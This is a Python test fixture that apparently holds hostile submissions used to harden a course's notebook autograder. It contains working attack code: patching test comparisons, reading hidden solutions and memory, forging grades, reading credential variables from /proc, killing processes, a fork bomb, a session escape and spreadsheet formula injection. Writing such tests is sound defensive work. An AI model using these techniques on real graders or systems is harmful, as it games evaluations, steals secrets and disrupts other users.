"""Hostile submissions for exercise 09: each tries to raise its own grade or hurt others.

Every attacker leaves the answers unwritten (or wrong), so an honest grader gives it what a
blank notebook gets: zero on every part. The attacks know the absolute paths of
``solutions/``, the gradebook and the grader's temporary folders (the strongest attacker
has read this repository); ``MARKER`` lets the test find any process an attack left behind.
"""

from __future__ import annotations

MARKER = "37.4242"  # `sleep 37.4242`: a process the test can look for afterwards

WRONG_TABLE = """
def sinusoidal_table(num_positions, dim, base=10000.0):
    return torch.zeros(num_positions, dim)
"""
WRONG_REST = {
    "answer_shift": "def shift_matrix(delta, dim, base=10000.0):\n    return torch.eye(dim)",
    "answer_wavelengths": "def wavelengths(dim, base=10000.0):\n    return torch.ones(dim // 2, dtype=torch.float64)",
}


def attacks(solutions: str, gradebook: list[str]) -> dict[str, dict[str, str]]:
    """``{student: {answer grade_id: code}}``."""
    solution_file = f"{solutions}/09_sinusoidal_positional_encodings.ipynb"
    return {
        # patch what the tests compare with, in the student's interpreter
        "atk_patch_torch": {
            "answer_table": "import builtins, math, torch\n"
            "torch.allclose = lambda *a, **k: True\n"
            "torch.equal = lambda *a, **k: True\n"
            "builtins.abs = lambda x: 0.0\n"
            "builtins.isinstance = lambda *a: True\n"
            "math.isclose = lambda *a, **k: True\n" + WRONG_TABLE,
            **WRONG_REST,
        },
        # make the package's reference agree with a wrong answer (and find it on disk)
        "atk_patch_pecourse": {
            "answer_table": "import sys, torch\n"
            f"sys.path[:0] = [{solutions!r} + '/..']\n"
            "try:\n"
            "    import pecourse.positions.absolute as A\n"
            "    import pecourse.positions as P\n"
            "    A.sinusoidal_table = P.sinusoidal_table = lambda n, d, b=1e4, **k: torch.zeros(n, d)\n"
            "    A.sinusoidal_shift_matrix = lambda delta, d, b=1e4, **k: torch.eye(d)\n"
            "except ImportError:\n"
            "    pass\n" + WRONG_TABLE,
            **WRONG_REST,
        },
        # wrap the cell runner and neuter every grader function the process holds
        "atk_wrap_runner": {
            "answer_table": "import sys, types\n"
            "ip = get_ipython()\n"
            "real = ip.run_cell\n"
            "ip.run_cell = lambda *a, **k: real('pass')\n"
            "for name, mod in list(sys.modules.items()):\n"
            "    if 'pecourse' in name or 'runner' in name or 'nbclient' in name:\n"
            "        for attr, value in list(vars(mod).items()):\n"
            "            if isinstance(value, types.FunctionType):\n"
            "                setattr(mod, attr, lambda *a, **k: True)\n" + WRONG_TABLE,
            **WRONG_REST,
        },
        # look for the hidden tests and the expected values in memory and in the caller
        # (gc lists containers, never strings: look in the dicts it tracks for a job's list
        # of cells, as inherited through fork; the marker is built at run time so that this
        # cell's own source does not match)
        "atk_search_memory": {
            "answer_table": "import gc, sys, torch\n"
            "mark = 'BEGIN HIDDEN' + ' TESTS'\n"
            "found = [c[0] for o in gc.get_objects() if type(o) is dict "
            "and type(o.get('cells')) is list for c in o['cells'] "
            "if type(c) is list and c and type(c[0]) is str and mark in c[0]]\n"
            "if found:\n"
            "    raise ValueError('LEAK ' + found[0][-300:])\n"
            "def sinusoidal_table(num_positions, dim, base=10000.0):\n"
            "    frame = sys._getframe(1)\n"
            "    while frame is not None:\n"
            "        for value in frame.f_locals.values():\n"
            "            if isinstance(value, torch.Tensor) and tuple(value.shape) == (num_positions, dim):\n"
            "                return value\n"
            "        frame = frame.f_back\n"
            "    return torch.zeros(num_positions, dim)\n",
            **WRONG_REST,
        },
        # read the answers from solutions/ and run them
        "atk_read_solutions": {
            "answer_table": "import json, torch\n"
            f"cells = json.load(open({solution_file!r}))['cells']\n"
            "for c in cells:\n"
            "    if c['metadata'].get('nbgrader', {}).get('solution'):\n"
            "        exec(''.join(c['source']), globals())\n",
        },
        # forge result lines for itself and failures for everyone else
        "atk_forge_results": {
            "answer_table": "import glob, json, os\n"
            "for folder in ('/tmp', os.environ.get('TMPDIR', '/tmp'), '/var/tmp'):\n"
            "    for path in glob.glob(folder + '/pecourse-*/**/*.jsonl', recursive=True):\n"
            "        with open(path, 'a') as f:\n"
            "            for part in ('test_table', 'test_shift', 'test_wavelengths'):\n"
            "                f.write(json.dumps({'index': 99, 'grade_id': part, 'kind': 'test', "
            "'ok': 'atk_forge' in path, 'error': 'forged'}) + '\\n')\n" + WRONG_TABLE,
            **WRONG_REST,
        },
        # kill every process it can see: siblings, the server, the grader
        "atk_kill_everyone": {
            "answer_table": "import os, signal\n"
            "try:\n"
            "    os.kill(-1, signal.SIGKILL)\n"
            "except OSError:\n"
            "    pass\n"
            "for pid in os.listdir('/proc'):\n"
            "    if pid.isdigit() and int(pid) not in (os.getpid(), 1):\n"
            "        try:\n"
            "            os.kill(int(pid), signal.SIGKILL)\n"
            "        except OSError:\n"
            "            pass\n"
            "try:\n"
            "    os.kill(os.getppid(), signal.SIGKILL)\n"
            "except OSError:\n"
            "    pass\n" + WRONG_TABLE,
            **WRONG_REST,
        },
        # the grader's environment variables (an instructor's tokens, passwords, keys):
        # from its own process's initial environment, which fork copies, and from every
        # process whose /proc entry it can read
        "atk_read_environment": {
            "answer_table": "import ctypes, os\n"
            "# a process whose uid changed is not dumpable, which hides its /proc files; undo it\n"
            "ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE\n"
            "seen = dict(os.environ)\n"
            "for pid in ['self'] + os.listdir('/proc'):\n"
            "    try:\n"
            "        raw = open(f'/proc/{pid}/environ', 'rb').read()\n"
            "    except OSError:\n"
            "        continue\n"
            "    for entry in raw.split(b'\\0'):\n"
            "        name, _, value = entry.decode(errors='replace').partition('=')\n"
            "        seen.setdefault(name, value)\n"
            "wanted = ('TOKEN', 'SECRET', 'PASSWORD', 'KEY')\n"
            "found = sorted(f'{n}={v}' for n, v in seen.items() if any(w in n for w in wanted))\n"
            "raise ValueError(f\"ENVIRONMENT read, PATH seen: {'PATH' in seen}; secrets: {found or 'none'}\")\n",
            **WRONG_REST,
        },
        # write commands into the fork server's stdin through /proc
        "atk_server_stdin": {
            "answer_table": "import os\n"
            "for pid in os.listdir('/proc'):\n"
            "    try:\n"
            "        cmd = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
            "        if b'--serve' in cmd:\n"
            "            with open(f'/proc/{pid}/fd/0', 'w') as f:\n"
            "                f.write(''.join(f'KILL {i}\\n' for i in range(200)))\n"
            "    except OSError:\n"
            "        pass\n" + WRONG_TABLE,
            **WRONG_REST,
        },
        # escape the job (setsid, double fork) and rewrite the gradebook after the grader
        "atk_setsid_escape": {
            "answer_table": "import os, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            f"        os.execv('/bin/sleep', ['sleep', {MARKER!r}])\n"
            "    if os.fork() == 0:\n"
            "        time.sleep(0.5)\n"
            f"        for path in {gradebook!r}:\n"
            "            try:\n"
            "                with open(path, 'a') as f:\n"
            "                    f.write('atk_setsid_escape,09_sinusoidal_positional_encodings,test_table,2,2,\\n')\n"
            "            except OSError:\n"
            "                pass\n"
            "    os._exit(0)\n"
            f"for path in {gradebook!r}:\n"
            "    try:\n"
            "        open(path, 'a').write('now\\n')\n"
            "    except OSError:\n"
            "        pass\n" + WRONG_TABLE,
            **WRONG_REST,
        },
        # as many processes as it can, each in its own session
        "atk_fork_bomb": {
            "answer_table": "import os, time\n"
            "for _ in range(400):\n"
            "    try:\n"
            "        pid = os.fork()\n"
            "    except OSError:\n"
            "        break\n"
            "    if pid == 0:\n"
            "        os.setsid()\n"
            f"        os.execv('/bin/sleep', ['sleep', {MARKER!r}])\n" + WRONG_TABLE,
            **WRONG_REST,
        },
        # a result that claims to equal anything
        "atk_tensor_subclass": {
            "answer_table": "import torch\n"
            "class Always(torch.Tensor):\n"
            "    @classmethod\n"
            "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
            "        if func in (torch.allclose, torch.equal):\n"
            "            return True\n"
            "        return super().__torch_function__(func, types, args, kwargs or {})\n"
            "    def __eq__(self, other):\n"
            "        return True\n"
            "def sinusoidal_table(num_positions, dim, base=10000.0):\n"
            "    return torch.zeros(num_positions, dim).as_subclass(Always)\n",
            **WRONG_REST,
        },
        # a type name that a spreadsheet would run as a formula
        "atk_formula": {
            "answer_table": "Formula = type('=HYPERLINK(\"http://x\")', (ValueError,), {})\n"
            "def sinusoidal_table(num_positions, dim, base=10000.0):\n"
            "    raise Formula('=1+1')\n",
        },
        # the package's reference implementation, imported (the default policy forbids it)
        "atk_reference": {
            "answer_table": "from pecourse.positions import sinusoidal_table as reference\n\n"
            "def sinusoidal_table(num_positions, dim, base=10000.0):\n"
            "    return reference(num_positions, dim, base)\n",
        },
    }


def raw_memory_scan(markers: dict[str, str]) -> str:
    """An answer cell that reads its own process's memory (``process_vm_readv`` on itself,
    every writable mapping) and fails with ``SCANNED <MB> MB FOUND <names>``: the names of
    the ``markers`` it found. Each marker is searched as two halves that must lie side by
    side, so the cell itself (its source, its constants) never holds a whole marker."""
    pieces = {k: (v[: len(v) // 2].encode(), v[len(v) // 2 :].encode()) for k, v in markers.items()}
    return (
        "import ctypes, os\n"
        "def _scan(pieces):\n"
        "    libc = ctypes.CDLL(None, use_errno=True)\n"
        "    class IOV(ctypes.Structure):\n"
        "        _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n"
        "    step = 1 << 22\n"
        "    buf = ctypes.create_string_buffer(step + 256)\n"
        "    found, scanned = set(), 0\n"
        "    for line in open('/proc/self/maps').read().splitlines():\n"
        "        parts = line.split()\n"
        "        if not parts[1].startswith('rw'):\n"
        "            continue\n"
        "        low, high = (int(x, 16) for x in parts[0].split('-'))\n"
        "        for pos in range(low, high, step):\n"
        "            n = min(step + 256, high - pos)\n"
        "            local = IOV(ctypes.cast(buf, ctypes.c_void_p), n)\n"
        "            remote = IOV(pos, n)\n"
        "            got = libc.process_vm_readv(os.getpid(), ctypes.byref(local), 1,\n"
        "                                        ctypes.byref(remote), 1, 0)\n"
        "            if got <= 0:\n"
        "                continue\n"
        "            data = buf.raw[:got]\n"
        "            scanned += got\n"
        "            for name, (head, tail) in pieces.items():\n"
        "                at = data.find(head)\n"
        "                while at >= 0 and name not in found:\n"
        "                    if data[at + len(head) : at + len(head) + len(tail)] == tail:\n"
        "                        found.add(name)\n"
        "                    at = data.find(head, at + 1)\n"
        "    return scanned, sorted(found)\n"
        f"_mb, _found = _scan({pieces!r})\n"
        "raise ValueError(f'SCANNED {_mb >> 20} MB FOUND {_found}')\n"
    )
